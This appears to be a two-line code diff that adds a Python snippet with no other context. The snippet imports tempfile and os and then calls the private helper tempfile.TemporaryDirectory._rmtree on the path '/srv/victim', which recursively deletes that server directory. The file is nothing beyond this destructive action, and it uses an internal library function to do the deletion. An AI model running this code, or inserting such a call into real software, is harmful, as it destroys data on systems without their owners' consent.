@@ -1,0 +1,2 @@
+import tempfile, os
+tempfile.TemporaryDirectory._rmtree("/srv/victim")
